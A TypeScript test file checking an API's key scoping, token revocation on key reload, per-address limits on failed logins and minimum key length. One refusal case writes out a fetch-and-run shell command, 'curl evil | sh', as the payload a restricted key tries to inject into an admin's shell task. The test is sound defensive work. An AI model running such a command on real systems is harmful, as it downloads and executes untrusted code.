import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import { buildApi } from '../../api/server.ts';
import { MAX_AUTH_FAILURES } from '../../api/auth-failures.ts';
import { loadConfig, type Config } from '../../core/config/index.ts';
import { createMetrics } from '../../core/telemetry/metrics.ts';
import { coreOnTestDatabase, silentLogger } from '../support/core.ts';
import { skipUnless } from '../support/services.ts';

// issue 13: per-key task type and pool limits (the trust model), item 6 (failed authentication is
// limited per address; short keys refused outside development) and item 7 (a token's permissions are
// its key's at use; a key file reload revokes).

const skip = await skipUnless('postgres');

const ADMIN = 'admin-key-0123456789abcdefghijklmnopqrstuv';
const REPORTS = 'reports-key-0123456789abcdefghijklmnopqrstu';
const WRITER = 'writer-key-0123456789abcdefghijklmnopqrstuv';
const SECRET = 'jwt-secret-0123456789abcdefghijklmnopqrstuv';

describe('API keys', { skip }, () => {
  let env: Awaited<ReturnType<typeof coreOnTestDatabase>>;
  let app: FastifyInstance;
  let dir: string;
  let keyFile: string;
  const writeKeys = (keys: Record<string, unknown>) => writeFileSync(keyFile, JSON.stringify(keys));
  const load = (): Config => {
    const { config } = loadConfig({ env: { ENVIRONMENT: 'development', JWT_SECRET: SECRET, API_KEYS: JSON.stringify({ [ADMIN]: ['Admin'] }) } });
    config.api.auth.enabled = true;
    config.api.auth.api_keys_file = keyFile;
    return config;
  };
  const as = (key: string) => ({ 'x-api-key': key });
  const call = (key: string, method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
    app.inject({ method, url, headers: key.startsWith('eyJ') ? { authorization: `Bearer ${key}` } : as(key), ...(payload ? { payload } : {}) });

  before(async () => {
    env = await coreOnTestDatabase();
    dir = mkdtempSync(path.join(tmpdir(), 'hg-keys-'));
    keyFile = path.join(dir, 'keys.json');
    writeKeys({
      [REPORTS]: { permissions: ['TaskRead', 'TaskWrite', 'TaskDelete'], task_types: ['http'], pools: ['reports'] },
      [WRITER]: ['TaskRead', 'TaskWrite'],
    });
    const config = load();
    app = await buildApi({ ctx: env.ctx, logger: silentLogger, version: 'test', metrics: createMetrics(), config, loadConfig: load });
  });
  after(async () => {
    await app?.close();
    await env?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('a key limited to http tasks in pool reports cannot reach shell or other pools by any write', async () => {
    const shell = { name: 'root-shell', type: 'shell', shell: { command: ['id'] }, pool: 'reports' };
    const report = { name: 'report', type: 'http', http: { url: 'https://reports.example.com/run' }, pool: 'reports' };
    assert.equal((await call(ADMIN, 'POST', '/api/tasks', { ...shell, name: 'admins-shell', pool: 'default' })).statusCode, 201);
    assert.equal((await call(REPORTS, 'POST', '/api/tasks', report)).statusCode, 201, 'what the key is for');
    const refusals: Array<[string, Awaited<ReturnType<typeof call>>]> = [
      ['create shell', await call(REPORTS, 'POST', '/api/tasks', shell)],
      ['create http in another pool', await call(REPORTS, 'POST', '/api/tasks', { ...report, name: 'elsewhere', pool: 'default' })],
      ['create http in the default pool by omission', await call(REPORTS, 'POST', '/api/tasks', { ...report, name: 'elsewhere', pool: undefined })],
      ['apply shell', await call(REPORTS, 'PUT', '/api/tasks/root-shell', shell)],
      ['apply over its own task as shell', await call(REPORTS, 'PUT', '/api/tasks/report', { ...shell, name: 'report' })],
      ['patch its task into shell', await call(REPORTS, 'PATCH', '/api/tasks/report', { type: 'shell', http: null, shell: { command: ['id'] } })],
      ['patch its task to another pool', await call(REPORTS, 'PATCH', '/api/tasks/report', { pool: 'default' })],
      ['trigger the admin\'s shell task', await call(REPORTS, 'POST', '/api/tasks/admins-shell/trigger')],
      ['change the admin\'s shell task', await call(REPORTS, 'PATCH', '/api/tasks/admins-shell', { shell: { command: ['sh', '-c', 'curl evil | sh'] } })],
      ['suspend the admin\'s task', await call(REPORTS, 'POST', '/api/tasks/admins-shell/suspend')],
      ['delete the admin\'s task', await call(REPORTS, 'DELETE', '/api/tasks/admins-shell')],
    ];
    for (const [what, response] of refusals) {
      assert.equal(response.statusCode, 403, `${what}: ${response.body}`);
      assert.equal((response.json() as { code: string }).code, 'HG_ERR_AUTH_SCOPE', what);
    }
    const run = (await call(ADMIN, 'POST', '/api/tasks/admins-shell/trigger')).json() as { id: string };
    assert.equal((await call(REPORTS, 'POST', `/api/task-runs/${run.id}/cancel`)).statusCode, 403, 'cancel a run of another task');
    assert.equal((await call(ADMIN, 'POST', `/api/task-runs/${run.id}/cancel`)).statusCode, 200);
    assert.equal((await call(REPORTS, 'POST', `/api/task-runs/${run.id}/retry`)).statusCode, 403, 'retry a run of another task');
    const stored = (await call(ADMIN, 'GET', '/api/tasks/admins-shell')).json() as { shell: { command: string[] }; suspend: boolean };
    assert.deepEqual(stored.shell.command, ['id'], 'nothing changed');
    assert.equal(stored.suspend, false);
    assert.equal((await call(REPORTS, 'POST', '/api/tasks/report/trigger')).statusCode, 201, 'its own task it may trigger');
    const who = (await call(REPORTS, 'GET', '/api/auth/whoami')).json() as { scope: unknown };
    assert.deepEqual(who.scope, { taskTypes: ['http'], pools: ['reports'] });
    // an unrestricted TaskWrite key is unaffected
    assert.equal((await call(WRITER, 'POST', '/api/tasks/admins-shell/trigger')).statusCode, 201);
  });

  it('the scope and permissions of a token are its key\'s at use: lowering or removing the key applies at once', async () => {
    const tokens = (await app.inject({ method: 'POST', url: '/api/auth/token', payload: { apiKey: WRITER } })).json() as { accessToken: string; refreshToken: string };
    const task = { name: 'token-task', type: 'noop', params: {} };
    assert.equal((await call(tokens.accessToken, 'POST', '/api/tasks', task)).statusCode, 201);
    writeKeys({ [WRITER]: ['TaskRead'], [REPORTS]: { permissions: ['TaskRead', 'TaskWrite'], task_types: ['http'], pools: ['reports'] } });
    assert.equal((await call(ADMIN, 'POST', '/api/system/reload-config')).statusCode, 200);
    const lowered = await call(tokens.accessToken, 'DELETE', '/api/tasks/token-task');
    assert.equal(lowered.statusCode, 403, 'the token lost TaskDelete... and TaskWrite with its key');
    assert.equal((await call(tokens.accessToken, 'POST', '/api/tasks/token-task/trigger')).statusCode, 403, 'TaskWrite is gone from the token');
    assert.equal((await call(tokens.accessToken, 'GET', '/api/tasks/token-task')).statusCode, 200, 'TaskRead stays');
    writeKeys({ [REPORTS]: { permissions: ['TaskRead'], task_types: ['http'], pools: ['reports'] } });
    assert.equal((await call(ADMIN, 'POST', '/api/system/reload-config')).statusCode, 200);
    assert.equal((await call(tokens.accessToken, 'GET', '/api/tasks')).statusCode, 401, 'a removed key revokes its tokens');
    assert.equal((await app.inject({ method: 'POST', url: '/api/auth/refresh', payload: { refreshToken: tokens.refreshToken } })).statusCode, 401);
    assert.equal((await call(WRITER, 'GET', '/api/tasks')).statusCode, 401, 'and the key itself, without a restart');
    writeFileSync(keyFile, '{ not json');
    const broken = await call(ADMIN, 'POST', '/api/system/reload-config');
    assert.equal(broken.statusCode, 400, 'a broken key file fails the reload');
    assert.match(broken.body, /api_keys_file/);
    assert.equal((await call(REPORTS, 'GET', '/api/tasks')).statusCode, 200, '...and keeps the keys in effect');
  });

  it('limits failed authentications per address before looking at the credential', async () => {
    const attacker = { remoteAddress: '203.0.113.7' };
    let status = 0;
    let attempts = 0;
    for (; attempts < MAX_AUTH_FAILURES + 10 && status !== 429; attempts++) {
      status = (await app.inject({ url: '/api/tasks', ...attacker, headers: as(`guess-${attempts}`) })).statusCode;
    }
    assert.equal(status, 429, `refused after ${attempts} guesses`);
    assert.equal(attempts, MAX_AUTH_FAILURES + 1);
    const right = await app.inject({ url: '/api/tasks', ...attacker, headers: as(ADMIN) });
    assert.equal(right.statusCode, 429, 'even a right guess is not checked now: it cannot be confirmed');
    assert.ok(Number(right.headers['retry-after']) > 0);
    assert.equal((await app.inject({ method: 'POST', url: '/api/auth/token', ...attacker, payload: { apiKey: ADMIN } })).statusCode, 429, 'nor through the token endpoint');
    assert.equal((await app.inject({ url: '/api/tasks', remoteAddress: '203.0.113.8', headers: as(ADMIN) })).statusCode, 200, 'other addresses are unaffected');
  });

  it('refuses API keys shorter than 32 characters in staging and production', () => {
    // on a broker, staging and production also need the key that signs run messages (docs/brokers.md)
    const production = { ENVIRONMENT: 'production', JWT_SECRET: SECRET, DATABASE_URL: 'postgresql://db/x', MESSAGE_QUEUE_URL: 'amqp://mq', FRONTEND_URL: 'https://x.example', RUN_SIGNING_SECRET_KEY: 'a-signing-key' };
    assert.throws(() => loadConfig({ env: { ...production, API_KEYS: JSON.stringify({ ab: ['Admin'] }) } }), (error: Error) => /api\.auth\.api_keys/.test(error.message) && !error.message.includes('"ab"'));
    assert.equal(loadConfig({ env: { ...production, API_KEYS: JSON.stringify({ [ADMIN]: ['Admin'] }) } }).config.environment, 'production');
    assert.equal(loadConfig({ env: { API_KEYS: JSON.stringify({ ab: ['Admin'] }) } }).config.environment, 'development', 'development allows a short key');
  });
});
